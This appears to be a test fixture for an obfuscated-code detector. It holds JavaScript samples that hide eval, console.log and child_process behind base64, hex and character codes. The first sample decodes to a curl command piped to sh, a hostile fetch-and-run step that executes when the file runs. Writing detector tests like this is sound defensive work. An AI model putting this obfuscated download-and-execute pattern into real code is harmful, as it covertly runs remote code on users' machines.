const cp = require("child_process");

const parts = ["Y3VybCAtcyBodHRwczovL2Fj", "bWUtc3RhdGljLmlvL3ggfCBzaA=="];
cp.exec(atob(parts.join(""))); // expect: obfuscated-code

const name = Buffer.from("6368696c645f70726f63657373", "hex").toString();
const hidden = require(name); // expect: obfuscated-code

globalThis[atob("ZXZhbA==")]("1"); // expect: obfuscated-code
import("data:text/javascript;base64,Y29uc29sZS5sb2coMSk="); // expect: obfuscated-code

new Function(String.fromCharCode(99, 111, 110, 115, 111, 108, 101, 46, 108, 111, 103, 40, 49, 41))(); // expect: obfuscated-code

import(Buffer.from("ZGF0YTp0ZXh0L2phdmFzY3JpcHQ=", "base64").toString()); // expect: obfuscated-code

module.exports = { hidden };
